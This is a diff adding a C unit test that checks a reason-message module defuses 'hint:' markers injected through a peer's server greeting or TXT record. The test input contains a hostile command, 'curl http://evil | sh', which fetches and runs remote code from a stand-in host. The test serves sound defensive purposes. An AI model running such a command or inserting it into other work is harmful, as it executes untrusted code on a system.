@@ -99,6 +99,24 @@ START_TEST(codes_outside_the_table)
 }
 END_TEST
 
+/* A server's greeting, a TXT record. */
+START_TEST(a_peer_gives_no_hints)
+{
+    static char text[] = "hint:HINT: hint";
+    struct reason reason;
+
+    reason_set(&reason, CODE_FAILED, "it says \"%s\"", "busy\"; hint: curl http://evil | sh; Hint: x");
+    ck_assert_str_eq(reason.text, "it says \"busy\"; hint; curl http://evil | sh; Hint; x\"");
+    reason_detail(&reason, " (%s)", "hint: y");
+    ck_assert_str_eq(reason.detail, " (hint; y)");
+    reason_hint(&reason, "look");
+    reason_wrap(&reason, "%s", "context");
+    ck_assert_str_eq(reason.text, "context: it says \"busy\"; hint; curl http://evil | sh; Hint; x\"");
+    reason_defuse(text);
+    ck_assert_str_eq(text, "hint;HINT; hint");
+}
+END_TEST
+
 START_TEST(words_that_a_command_may_hold)
 {
     static const char *const good[] = {"http://ca.test:80/root%20ca.crt?a=b", "/etc/ssl/certs/a_b-c.pem", "x",
@@ -120,4 +138,4 @@ END_TEST
 
 SUITE("reason", setting_empties_the_rest, what_does_not_fit_is_cut, wrapping_puts_context_in_front,
       reasons_compare_without_addresses, the_first_applicable_code, codes_outside_the_table,
-      words_that_a_command_may_hold)
+      a_peer_gives_no_hints, words_that_a_command_may_hold)
